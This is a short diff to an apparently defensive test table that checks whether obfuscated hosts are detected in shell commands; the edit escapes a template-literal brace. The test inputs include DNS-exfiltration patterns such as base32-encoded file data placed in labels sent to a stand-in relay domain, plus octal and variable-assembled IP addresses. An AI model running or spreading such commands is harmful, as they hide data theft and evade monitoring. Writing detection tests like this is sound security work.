@@ -27,7 +27,7 @@ describe('addresses and names in a command', () => {
     ['are octal quads', 'ping 0313.00.0161.0115', '203.0.113.77', 'octal-ip'],
     ['are put together from variables', 'H=203.0.113; curl http://$H.77/', '203.0.113.77', 'variable'],
     ['have labels from loops', 'dig $l.$i.9491.t.relay.example', '9491.t.relay.example', 'variable'],
-    ['have a label from a brace', 'dig ${x}.t.relay.example', 't.relay.example', 'variable'],
+    ['have a label from a brace', `dig \${x}.t.relay.example`, 't.relay.example', 'variable'],
     ['have a label from a command', 'dig $(base32 f).t.relay.example', 't.relay.example', 'variable'],
     ['have a label from a template', `lookup(f'{part}.t.relay.example')`, 't.relay.example', 'variable'],
   ])('%s', (_, command, value, encoding) => {
